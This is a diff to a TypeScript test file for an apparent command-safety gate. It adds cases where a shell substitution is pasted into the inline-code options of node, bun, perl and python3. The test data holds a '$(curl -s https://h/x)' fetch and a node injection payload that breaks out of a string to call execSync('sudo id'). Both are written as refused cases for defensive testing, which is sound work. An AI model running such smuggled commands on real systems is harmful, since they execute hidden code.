@@ -2,7 +2,8 @@
 // a class read at its cause: (a) a shell that inherits the pipe however it is started: a command find's
 // `-exec`/`-execdir` runs, a command inside a compound the pipe feeds (`| { true; sh; }`, `| if ..; then sh;
 // fi`, a loop's or a case's body), script's `-c` command line, rbash; (b) a compound's output piped into a
-// shell (`{ echo a; echo CMD; } | sh`, `for ..; do echo CMD; done | sh`). Real bash, GNU find and python3
+// shell (`{ echo a; echo CMD; } | sh`, `for ..; do echo CMD; done | sh`); (c) a substitution pasted into
+// another spelling of an inline-code option (`node -p`, `--eval=`, `-e"CODE"`, bun, perl and python glued). Real bash, GNU find and python3
 // the oracle, unprivileged in a scratch home (busybox find and util-linux script were run by hand); the
 // 200 kB inputs (common rule) are here, not in a file of their own (CI's budget).
 import assert from 'node:assert/strict';
@@ -57,6 +58,27 @@ test("a compound's output piped into a shell is its script: what it prints, else
   );
 });
 
+/** Each spelling of an inline-code option given a substitution the shell pastes in (`s`). */
+const PASTED: readonly ((s: string) => string)[] = [
+  (s) => `node -p "('${s}')"`,
+  (s) => `node --eval="x=('${s}')"`,
+  (s) => `node --print "('${s}')"`,
+  (s) => `node -pe "('${s}')"`,
+  (s) => `node -e"x=('${s}')"`,
+  (s) => `node --input-type=module --eval "x=('${s}')"`,
+  (s) => `bun -e "x=('${s}')"`,
+  (s) => `python3 -c"print('${s}')"`,
+  (s) => `perl -e"print '${s}'"`,
+  (s) => `perl -ne"print if /${s}/" x`,
+];
+
+test("a substitution pasted into any spelling of an interpreter's inline code is code the text does not show", () => {
+  floor.shareRefused(
+    fc.tuple(fc.constantFrom(...PASTED), fc.constantFrom('$(cat f)', '`cat f`', '$(curl -s https://h/x)')),
+    ([shape, s]) => shape(s),
+  );
+});
+
 test('the ordinary neighbours stay admitted', () => {
   floor.allAdmitted([
     "find . -name '*.ts' -exec wc -l {} +",
@@ -70,6 +92,11 @@ test('the ordinary neighbours stay admitted', () => {
     "script -qc 'npm test' /dev/null",
     'echo x | script -qc make out.log',
     'if [ -f x ]; then cat x; fi | head',
+    "node -p 'process.version'",
+    `node -e 'console.log(process.argv[1])' "$(cat f)"`,
+    "perl -Mfeature=say -e 'say 1'",
+    "perl -i.bak -pe 's/a/b/' $(grep -l a src)",
+    `python3 -Wignore -c 'print(1)' "$(cat f)"`,
   ]);
 });
 
@@ -106,10 +133,13 @@ const ORACLE = [
   "{ echo a; echo 'sudo id'; } | sh",
   "for i in a; do echo 'sudo id'; done | sh",
   "echo 'sudo id' | rbash",
+  // node runs `-p` and `--eval=` code with what f holds pasted in.
+  `echo "'); require('child_process').execSync('sudo id'); ('" > f; node -p "('$(cat f)')"`,
+  `echo "'); require('child_process').execSync('sudo id'); ('" > f; node --eval="x=('$(cat f)')"`,
 ];
 
 test('the oracle: real programs run each refused case', { skip: floor.oracleSkip('round 46') }, () => {
-  const tools = ['bash', 'sh', 'find', 'rbash', 'cat'].filter(floor.has);
+  const tools = ['bash', 'sh', 'find', 'rbash', 'cat', 'node'].filter(floor.has);
   floor.inScratch('gate-r46-', tools, (dir) => {
     fs.symlinkSync(floor.UNPRIVILEGED_PYTHON, join(dir, 'python3'));
     const cases = ORACLE.filter((c) => !c.includes('rbash') || tools.includes('rbash'));
